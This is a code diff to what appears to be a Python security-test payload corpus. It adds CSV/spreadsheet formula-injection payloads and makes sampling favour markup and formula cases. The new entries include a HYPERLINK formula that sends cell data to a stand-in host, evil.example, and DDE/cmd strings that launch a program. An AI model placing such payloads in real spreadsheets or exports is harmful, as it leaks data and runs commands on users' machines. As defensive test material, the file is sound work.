@@ -21,12 +21,13 @@ from dataclasses import dataclass
 from datetime import UTC, datetime
 
 MARK = "zqATK"
+FIRST = ("xss", "formula")
 
 
 @dataclass(frozen=True)
 class Payload:
     marker: str
-    kind: str  # the class of attack: xss, entity, sql, template, crlf, control, unicode, korean, long
+    kind: str  # the class of attack: xss, entity, sql, template, crlf, control, unicode, korean, formula, long
     text: str
 
     def __str__(self) -> str:  # pytest ids and failure messages: short, printable
@@ -138,6 +139,14 @@ TEMPLATES: dict[str, list[str]] = {
         "１２３４ {m} ＡＢＣ 가나다",                                     # full-width digits and letters
         "{m} 평양\r\nBcc: x@example.org",
     ],
+    "formula": [  # CSV/spreadsheet formula injection: a cell starting with = + - @
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"{m}\")",
+        "+cmd|' /C calc'!A0 {m}",
+        "-2+3+cmd|' /C calc'!A0 {m}",
+        "@SUM(1+1)*cmd|' /C calc'!A0 {m}",
+        "=DDE(\"cmd\";\"/C calc\";\"{m}\")",
+        "=1+1 {m} 고문",
+    ],
     "long": [
         "{m}" + "A" * 1_000_000,                                           # 1 MB
         "{m}" + "가" * 350_000,                                            # 1 MB of Hangul in UTF-8
@@ -196,7 +205,7 @@ def full() -> bool:
 
 def sample(count: int, pool: list[Payload] | None = None, salt: str = "") -> list[Payload]:
     """`count` payloads of `pool` (all of it under ATTACK_FULL), chosen by the run's seed and
-    spread over the classes (no class twice before every class once). `salt` (the test's
+    spread over the classes (no class twice before every class once; FIRST first). `salt` (the test's
     name) makes tests choose differently from one another, so together they cover every
     class on every run, while staying reproducible from the seed."""
     pool = CORPUS if pool is None else pool
@@ -210,6 +219,8 @@ def sample(count: int, pool: list[Payload] | None = None, salt: str = "") -> lis
         chooser.shuffle(members)
     kinds = sorted(by_kind)
     chooser.shuffle(kinds)
+    # Markup and formulas lead, so even a small sample checks escaping and CSV defusing.
+    kinds.sort(key=lambda kind: kind not in FIRST)
     chosen: list[Payload] = []
     while len(chosen) < count:
         for kind in kinds:
